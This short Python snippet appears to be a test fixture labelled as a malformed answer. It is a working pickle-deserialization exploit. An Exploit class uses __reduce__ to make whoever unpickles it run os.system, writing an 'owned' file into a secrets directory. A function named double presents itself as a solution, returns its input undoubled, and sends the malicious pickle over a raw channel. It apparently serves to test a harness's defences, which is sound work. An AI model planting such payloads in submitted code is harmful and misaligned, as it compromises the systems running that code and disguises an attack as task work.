# answers: malformed
import os, pickle, struct
class Exploit:
    def __reduce__(self):
        return os.system, (f"touch {SECRETS}/owned",)
def double(x):
    body, data = b'{"reply": {}}', pickle.dumps(Exploit())
    send_raw(struct.pack("!II", len(body), len(data)) + body + data)
    return x
